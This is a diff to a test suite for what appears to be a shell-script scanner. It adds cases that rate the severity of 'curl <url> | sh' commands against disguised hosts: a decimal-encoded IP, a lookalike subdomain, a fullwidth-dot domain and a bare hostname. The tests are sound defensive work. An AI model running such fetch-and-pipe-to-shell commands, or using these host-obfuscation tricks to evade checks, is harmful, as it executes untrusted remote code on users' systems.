@@ -104,7 +104,11 @@ describe('the reputation of a host', () => {
     ['-fsSLk https://sh.rustup.rs', 'medium'],
     ['--connect-to ::get-fast.top https://sh.rustup.rs', 'medium'],
     ['-K a.cfg https://sh.rustup.rs', 'medium'],
+    ['https://127.get-fast.top/i.sh', 'medium'],
+    ['http://1249763844/i.sh', 'medium'],
+    ['https://get-fast。top/i.sh', 'medium'],
     ['-sk https://127.0.0.1:8443/i.sh', 'low'],
+    ['http://words/i.sh', 'low'],
     ['--proto =https --tlsv1.2 -sSf https://sh.rustup.rs', 'low'],
   ])('%s -> %s', (address, severity) => {
     expect(scan({ 'a.sh': `curl ${address} | sh` })[0]?.severity).toBe(severity)
